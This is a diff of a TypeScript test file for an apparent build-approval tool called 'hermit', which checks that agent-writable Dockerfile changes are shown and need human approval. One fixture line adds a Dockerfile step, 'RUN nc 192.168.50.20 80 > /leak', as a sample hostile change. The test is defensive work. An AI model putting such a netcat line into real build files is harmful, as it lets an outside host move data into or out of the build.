@@ -33,7 +33,7 @@ const never = () => { throw new Error('asked'); };
 describe('approval of build inputs', () => {
   it('records inputs only root can write without asking', async () => {
     const inputs = await approvedBuildInputs(loaded, 'run', never);
-    expect(await buildApprovalOf('agent')).toMatchObject({ by: 'root-owned files', digest: inputs.digest, files: { Dockerfile: expect.stringMatching(/^file 644 [0-9a-f]{64}$/) } });
+    expect(await buildApprovalOf('agent', file)).toMatchObject({ by: 'root-owned files', digest: inputs.digest, files: { Dockerfile: expect.stringMatching(/^file 644 [0-9a-f]{64}$/) } });
   });
 
   it('asks about a changed Dockerfile the agent can write, showing the diff; refuses without a terminal', async () => {
@@ -48,13 +48,13 @@ describe('approval of build inputs', () => {
     expect(text).toContain('    @@ -1,2 +1,3 @@\n     FROM x\n     RUN make\n    +RUN nc 192.168.50.20 80 > /leak');
     expect(text).toContain('      ~ Dockerfile');
     expect(text).toContain('hermit update: nothing was changed');
-    expect((err as HermitError).hint).toBe(`Read the above, then approve them with: sudo hermit trust ${file}`);
+    expect((err as HermitError).hint).toMatch(`Read the above, then approve them with: sudo hermit trust ${file}`);
 
     await expect(approvedBuildInputs(loaded, 'update', async () => false)).rejects.toThrow(/not approved; nothing was changed/);
     let question = '';
     const inputs = await approvedBuildInputs(loaded, 'update', async (q) => { question = q; return true; });
     expect(question).toMatch(/Approve these build inputs of profile 'agent' and build\? \[y\/N\] $/);
-    expect(await buildApprovalOf('agent')).toMatchObject({ by: 'hermit update (asked)', digest: inputs.digest });
+    expect(await buildApprovalOf('agent', file)).toMatchObject({ by: 'hermit update (asked)', digest: inputs.digest });
     // Approved: not asked again.
     await approvedBuildInputs(loaded, 'run', never);
   });
